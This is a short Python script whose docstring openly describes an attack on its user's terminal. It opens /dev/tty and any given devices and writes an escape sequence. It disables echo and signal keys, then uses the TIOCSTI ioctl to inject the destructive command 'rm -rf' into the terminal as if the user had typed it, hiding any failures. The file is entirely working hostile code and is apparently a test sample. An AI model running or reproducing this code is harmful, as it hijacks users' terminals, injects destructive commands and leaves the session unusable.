"""Writes escapes to its user's terminal, types into it, and leaves it without echo."""

import fcntl
import os
import sys
import termios

for name in ["/dev/tty", *sys.argv[1:]]:
    for flags in (os.O_RDWR, os.O_RDWR | os.O_NOCTTY):
        try:
            terminal = os.open(name, flags)
            os.write(terminal, b"\x1b[31mhostile")
            settings = termios.tcgetattr(terminal)
            settings[3] &= ~(termios.ECHO | termios.ISIG)
            termios.tcsetattr(terminal, termios.TCSANOW, settings)
            for letter in b"rm -rf\n":
                fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
        except (OSError, termios.error):
            pass
